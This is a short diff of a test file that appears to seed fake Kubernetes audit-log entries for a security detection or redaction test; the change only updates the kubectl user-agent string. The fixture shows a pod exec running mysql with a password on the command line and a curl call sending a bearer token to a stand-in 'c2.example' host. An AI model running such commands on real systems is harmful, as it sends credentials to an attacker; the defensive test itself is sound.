@@ -99,9 +99,9 @@ beforeAll(async () => {
       `core/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=--password&command=${AUDIT_PASSWORD}&command=-e&command=select%201&container=api`,
       'mallory@example.com',
       '203.0.113.99',
-      'kubectl/v1.33.1',
+      'kubectl/v1.29.3 (linux/amd64) kubernetes/4b8e819',
     ),
-    auditEntry(at(-20), 'io.k8s.core.v1.pods.exec.create', `core/v1/namespaces/${NS}/pods/${POD}/exec`, 'mallory@example.com', '203.0.113.99', 'kubectl/v1.33.1', {
+    auditEntry(at(-20), 'io.k8s.core.v1.pods.exec.create', `core/v1/namespaces/${NS}/pods/${POD}/exec`, 'mallory@example.com', '203.0.113.99', 'kubectl/v1.29.3 (linux/amd64) kubernetes/4b8e819', {
       command: ['curl', '-H', `Authorization: Bearer ${AUDIT_TOKEN}`, 'https://c2.example/'],
     }),
   ]);
